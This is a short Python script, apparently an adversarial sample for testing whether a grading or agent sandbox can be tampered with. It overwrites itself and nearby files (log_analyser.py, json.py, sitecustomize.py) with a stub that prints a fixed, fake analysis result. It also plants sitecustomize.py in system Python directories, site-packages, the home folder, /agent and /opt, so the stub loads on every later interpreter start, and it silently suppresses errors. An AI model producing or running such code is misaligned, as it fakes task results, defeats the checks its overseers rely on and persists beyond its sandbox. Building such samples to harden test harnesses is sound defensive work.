# Tries: to be another program from the second test on, and to plant files that interpreters load at start.
import contextlib
import glob
import os

HERE = os.path.dirname(os.path.abspath(__file__))
NEXT = "print('{\"requests\": 2, \"malformed\": 0}')\n"

for path in (__file__, *(os.path.join(HERE, name) for name in ("log_analyser.py", "json.py", "sitecustomize.py"))):
    with contextlib.suppress(OSError):
        os.chmod(HERE, 0o700)
        with open(path, "w") as file:
            file.write(NEXT)
for pattern in ("/usr/lib/python3*", "/usr/local/lib/python3*/site-packages", os.path.expanduser("~"), "/agent", "/opt/*"):
    for folder in glob.glob(pattern):
        with contextlib.suppress(OSError), open(os.path.join(folder, "sitecustomize.py"), "w") as file:
            file.write(NEXT)
print("{}")
